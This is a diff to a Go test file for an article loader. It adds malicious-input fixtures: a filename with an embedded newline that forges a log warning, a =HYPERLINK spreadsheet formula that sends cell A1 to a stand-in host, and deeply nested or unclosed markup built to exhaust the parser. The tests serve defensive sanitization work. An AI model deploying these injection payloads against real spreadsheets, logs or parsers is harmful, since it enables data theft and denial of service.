@@ -63,6 +63,12 @@ func badFiles() []badFile {
 		{name: "cr.txt", data: []byte("Titel der Meldung\r\rErste Zeile\rzweite Zeile. " + loadProse), loads: true, text: "Erste Zeile zweite Zeile."},
 		{name: "bom.txt", data: append([]byte{0xEF, 0xBB, 0xBF}, "Titel mit BOM\n\n"+loadProse...), loads: true, text: "Titel mit BOM"},
 		{name: "esc\x1b]0;pwned\x07name.txt", data: []byte(loadProse), loads: true, text: "neues Gesetz"},
+		{name: "forged\nquellen: warning: row\r\tname.txt", data: []byte("Zeilen im Namen. " + loadProse), loads: true, text: "Zeilen im Namen"},
+		{name: "formula.txt", data: []byte("title: =HYPERLINK(\"http://x.invalid/?\"&A1,\"klick\")\n\n" + loadProse), loads: true, text: "=HYPERLINK("},
+		{name: "deep.html", loads: true, warning: "nested too deep", text: "Tief verschachtelt",
+			data: []byte("<title>Tiefe Seite</title><body>" + strings.Repeat("<div>", 600) + "<p>Tief verschachtelt. " + loadProse + "</p>" + strings.Repeat("</div>", 600))},
+		{name: "open-links.md", loads: true, warning: "plain text", data: []byte(strings.Repeat("[a](", 50_000))},
+		{name: "nested-lists.md", loads: true, warning: "nested over", text: "tief", data: []byte(nestedList(40) + "\ntief " + loadProse)},
 		{name: "sub/deeper/nested.md", data: []byte("# Tief\n\n" + loadProse), loads: true, text: "neues Gesetz"},
 		{name: ".hidden/secret.txt", data: []byte(loadProse)},
 		{name: ".dotfile.txt", data: []byte(loadProse)},
@@ -138,7 +144,7 @@ func TestLoadBadInputs(t *testing.T) {
 	warnsFor := func(name string) []Warning {
 		var out []Warning
 		for _, w := range warns {
-			if strings.HasSuffix(w.Path, Sanitize(name)) {
+			if strings.HasSuffix(w.Path, SanitizeName(name)) {
 				out = append(out, w)
 			}
 		}
@@ -146,7 +152,7 @@ func TestLoadBadInputs(t *testing.T) {
 	}
 	matched := 0
 	for _, f := range files {
-		id := Sanitize(f.name)
+		id := SanitizeName(f.name)
 		a := byID[id]
 		switch {
 		case f.loads && a == nil:
@@ -205,12 +211,12 @@ func TestLoadFSBadInputs(t *testing.T) {
 		loaded[a.ID] = true
 	}
 	for _, f := range badFiles() {
-		if loaded[Sanitize(f.name)] != f.loads {
-			t.Errorf("%q: loaded %v, want %v", f.name, loaded[Sanitize(f.name)], f.loads)
+		if loaded[SanitizeName(f.name)] != f.loads {
+			t.Errorf("%q: loaded %v, want %v", f.name, loaded[SanitizeName(f.name)], f.loads)
 		}
 		n := 0
 		for _, w := range warns {
-			if w.Path == Sanitize(f.name) {
+			if w.Path == SanitizeName(f.name) {
 				n++
 			}
 		}
@@ -238,6 +244,9 @@ func checkClean(t testing.TB, a *Article) {
 		if d := dirty(v); d != "" {
 			t.Errorf("%q: %s %q: %s", a.ID, field, v, d)
 		}
+	}
+	if strings.ContainsAny(a.ID, "\n\r\t") {
+		t.Errorf("ID %q spans lines or has tabs", a.ID)
 	}
 	if strings.ContainsAny(a.Title, "\n\t") {
 		t.Errorf("%q: title %q spans lines", a.ID, a.Title)
